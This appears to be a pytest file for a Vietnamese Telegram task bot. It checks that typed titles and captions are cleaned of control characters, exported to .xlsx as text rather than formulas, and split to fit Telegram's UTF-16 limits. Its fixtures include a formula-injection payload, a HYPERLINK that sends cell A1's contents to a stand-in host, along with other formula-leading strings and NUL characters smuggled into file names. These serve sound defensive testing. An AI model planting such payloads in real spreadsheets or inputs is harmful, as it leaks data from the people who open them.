"""Issue 11, findings 3, 4 and 8: hostile text typed by people.

3. Control characters and NUL in a title or caption broke every .xlsx export for good.
4. A caption starting with "=" was written into the workbooks as a live formula.
8. Replies were split by code points while Telegram counts UTF-16 units.
"""

from __future__ import annotations

import html
import io
import re
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from bot.app import build_app
from bot.cli import main
from db.models import Evidence, Task
from db.session import unit_of_work
from handlers.base import split_text, to_plain_text
from reports.cells import put
from tests.fakes.formatting import parse_html
from tests.support import Harness, make_settings, sample_pdf
from tests.test_report_scenario import apply_events, build_district, local
from texts import messages
from texts.clean import sanitise, utf16_length
from timelang.clock import FakeClock

ADMIN, MEMBER = "1", "901"  # telegram:1 is an admin; 901 is a member of PNV
HOSTILE_TITLE = '=HYPERLINK("http://x.invalid/?"&A1;"bấm")\x00\x07 Rà soát\x1f thủ tục\x1b'
CLEAN_TITLE = '=HYPERLINK("http://x.invalid/?"&A1;"bấm") Rà soát thủ tục'
HOSTILE_CAPTION = "+SUM(1;2)\x00\x08biên\x7fbản"
CLEAN_CAPTION = "+SUM(1;2)biênbản"


@pytest.fixture
async def harness(tmp_path: Path, db_url: str) -> AsyncIterator[Harness]:
    app = build_app(make_settings(tmp_path, db_url), clock=FakeClock(local("01/07", "08:00")))
    with unit_of_work(app.session_factory) as session:
        apply_events(session, build_district(session), local("01/07", "08:00"))
    yield Harness(app)
    app.close()


def sent_files(reply: Any) -> list[Any]:
    return [r.file for r in reply.replies if r.file is not None]


def find_cell(workbook: Any, sheet: str, value: str) -> Any:
    for row in workbook[sheet].iter_rows():
        for cell in row:
            if cell.value == value:
                return cell
    raise AssertionError(f"{value!r} not in sheet {sheet}")


async def assign_with_evidence(harness: Harness) -> int:
    reply = await harness.send(ADMIN, f"/giao PNV | {HOSTILE_TITLE} | ngày 20/07/2026")
    match = re.search(r"#(\d+)", reply.text)
    assert match, reply.text
    task_id = int(match.group(1))
    attachment = harness.attach("f1", sample_pdf(), file_name="bien\x00ban\x1f.pdf")
    saved = await harness.send(MEMBER, f"/minhchung {task_id} {HOSTILE_CAPTION}",
                               attachment=attachment)
    assert "bien" in saved.text and messages.GENERIC_ERROR not in saved.text
    return task_id


async def test_hostile_title_and_caption_are_stored_clean(harness: Harness) -> None:
    task_id = await assign_with_evidence(harness)
    with unit_of_work(harness.app.session_factory) as session:
        assert session.get(Task, task_id).title == CLEAN_TITLE  # type: ignore[union-attr]
        evidence = session.query(Evidence).filter(Evidence.caption == CLEAN_CAPTION).one()
        assert evidence.file_name == "bienban.pdf"


async def test_report_workbook_survives_hostile_title_and_writes_no_formula(
        harness: Harness) -> None:
    await assign_with_evidence(harness)
    reply = await harness.send(ADMIN, "/baocao quy III/2026")
    assert messages.GENERIC_ERROR not in reply.text
    sheet = next(f for f in sent_files(reply) if f.file_name.endswith(".xlsx"))
    workbook = load_workbook(io.BytesIO(sheet.data))
    cell = find_cell(workbook, messages.XLSX_DETAIL_SHEET, CLEAN_TITLE)
    assert cell.data_type == "s"  # text, never a formula Excel would run
    assert cell.quotePrefix  # and it stays text when someone edits the cell


async def test_dossier_survives_hostile_caption_and_writes_no_formula(harness: Harness) -> None:
    await assign_with_evidence(harness)
    reply = await harness.send(ADMIN, "/hosominhchung quy III/2026")
    assert messages.GENERIC_ERROR not in reply.text
    (dossier,) = sent_files(reply)
    archive = zipfile.ZipFile(io.BytesIO(dossier.data))
    (index_name,) = [n for n in archive.namelist() if n.endswith(".xlsx")]
    index = load_workbook(io.BytesIO(archive.read(index_name)))
    for value in (CLEAN_TITLE, CLEAN_CAPTION):
        cell = find_cell(index, messages.DOSSIER_INDEX_SHEET, value)
        assert cell.data_type == "s"


async def test_formulas_alone_stay_text_in_both_workbooks(harness: Harness) -> None:
    """Finding 4 without any control character: the first character alone made a formula."""
    reply = await harness.send(ADMIN, "/giao PNV | =1+2 | ngày 20/07/2026")
    task_id = int(re.search(r"#(\d+)", reply.text).group(1))  # type: ignore[union-attr]
    attachment = harness.attach("f2", sample_pdf(), file_name="a.pdf")
    await harness.send(MEMBER, f"/minhchung {task_id} @SUM(A1:A9)", attachment=attachment)
    report = await harness.send(ADMIN, "/baocao quy III/2026")
    sheet = next(f for f in sent_files(report) if f.file_name.endswith(".xlsx"))
    cell = find_cell(load_workbook(io.BytesIO(sheet.data)), messages.XLSX_DETAIL_SHEET, "=1+2")
    assert cell.data_type == "s"
    (dossier,) = sent_files(await harness.send(ADMIN, "/hosominhchung quy III/2026"))
    archive = zipfile.ZipFile(io.BytesIO(dossier.data))
    (index_name,) = [n for n in archive.namelist() if n.endswith(".xlsx")]
    index = load_workbook(io.BytesIO(archive.read(index_name)))
    for value in ("=1+2", "@SUM(A1:A9)"):
        assert find_cell(index, messages.DOSSIER_INDEX_SHEET, value).data_type == "s"


def test_cli_title_with_control_characters_exports(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sqlite_url: str,
        capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("DATABASE_URL", sqlite_url)
    monkeypatch.chdir(tmp_path)
    assert main(["db", "upgrade"]) == 0
    assert main(["unit", "add", "PNV", "Phòng\x00 Nội vụ"]) == 0
    assert main(["task", "add", "--unit", "PNV", "--title", "-1+1\x07\x00 Báo cáo",
                 "--deadline", "ngày 20/12/2026"]) == 0
    capsys.readouterr()
    assert main(["report", "--period", "2026", "--xlsx", "bc.xlsx"]) == 0, capsys.readouterr()
    workbook = load_workbook(tmp_path / "bc.xlsx")
    assert find_cell(workbook, messages.XLSX_DETAIL_SHEET, "-1+1 Báo cáo").data_type == "s"
    assert find_cell(workbook, messages.XLSX_DETAIL_SHEET, "Phòng Nội vụ").data_type == "s"


def test_safe_cell_writer() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    values = ["=1+1", "@SUM(A1)", "\tx", "a\x00b\x1fc", "x" * 40000, 7]
    for column, value in enumerate(values, 1):
        put(sheet, 1, column, value)
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = [c for c in load_workbook(buffer).active[1]]  # type: ignore[index]
    assert [c.data_type for c in row[:5]] == ["s"] * 5
    assert [c.value for c in row[:4]] == ["=1+1", "@SUM(A1)", "\tx", "abc"]
    assert len(row[4].value) == 32767 and row[5].value == 7


def test_sanitise() -> None:
    assert sanitise("a\x00b\x07c\r\nd\re\tf\x85g\ud83d") == "abc\nd\ne\tf\ng"
    assert sanitise("dòng một\x0bdòng hai\x0ctrang sau") == "dòng một\ndòng hai\ntrang sau"
    decomposed = "Nghi\u0323 quyê\u0301t"
    assert sanitise(decomposed) == "Nghị quyết"
    assert sanitise("x" * 5000) == "x" * 4096
    assert sanitise(" An\n\tBình ", single_line=True, max_length=5) == "An Bì"
    assert sanitise("=A1 + 😀 \u200fשלום") == "=A1 + 😀 \u200fשלום"  # text stays text


# --- finding 8: replies fit the platform in UTF-16 units ------------------------------------

EMOJI_NOTE = "😀" * 3000  # 3,000 code points, 6,000 UTF-16 units


def test_split_counts_utf16_units() -> None:
    pieces = split_text(f"<b>Ghi chú</b>\n{EMOJI_NOTE}", 4096)
    assert len(pieces) == 3  # the heading's line, then the notes cut once
    assert all(utf16_length(piece) <= 4096 for piece in pieces)
    assert "".join(to_plain_text(piece) for piece in pieces).replace("\n", "") == (
        "Ghi chú" + EMOJI_NOTE)


def test_split_never_cuts_a_tag_or_entity_and_keeps_html_balanced() -> None:
    text = "<b>" + "&amp;😀 " * 1500 + "</b><i>" + "chữ" * 2000 + "</i>"
    pieces = split_text(text, 1000)
    for piece in pieces:
        assert utf16_length(piece) <= 1000
        assert re.search(r"&[a-z]*$|<[^>]*$", piece) is None
        assert piece.count("<b>") == piece.count("</b>")
        assert piece.count("<i>") == piece.count("</i>")
    assert "".join(to_plain_text(p) for p in pieces).replace(" ", "") == to_plain_text(
        text).replace(" ", "")


async def test_detail_full_of_emoji_fits_telegram(harness: Harness) -> None:
    reply = await harness.send(ADMIN, "/giao PNV | Cập nhật cổng | ngày 20/07/2026")
    task_id = int(re.search(r"#(\d+)", reply.text).group(1))  # type: ignore[union-attr]
    for _ in range(2):
        await harness.send(MEMBER, f"/capnhat {task_id} 50 {'🎉' * 1500}")
    detail = await harness.send(MEMBER, f"/chitiet {task_id}")
    assert messages.GENERIC_ERROR not in detail.text
    assert len(detail.replies) >= 2
    assert all(utf16_length(r.text) <= 4096 for r in detail.replies)


segments = st.one_of(
    st.text(st.characters(exclude_categories=("Cs",)), max_size=300).map(html.escape),
    st.sampled_from(["\n", " ", "😀" * 50, "👨‍👩‍👧", "e\u0301" * 20, "&amp;" * 30]),
)
balanced = st.recursive(segments, lambda inner: st.builds(
    lambda tag, body: f"<{tag}>{body}</{tag}>", st.sampled_from(["b", "i", "code"]),
    st.lists(inner, max_size=4).map("".join)), max_leaves=12)


@settings(max_examples=100, deadline=None, derandomize=True, database=None)
@given(parts=st.lists(balanced, max_size=12), limit=st.sampled_from([200, 2000, 4096]))
def test_split_property(parts: list[str], limit: int) -> None:
    text = "".join(parts) * 3
    pieces = split_text(text, limit)
    for piece in pieces:
        assert utf16_length(piece) <= limit
        parse_html(piece)  # Telegram would accept it: balanced tags, whole entities
    squeezed = "".join(to_plain_text(piece) for piece in pieces)
    assert re.sub(r"\s", "", squeezed) == re.sub(r"\s", "", to_plain_text(text))
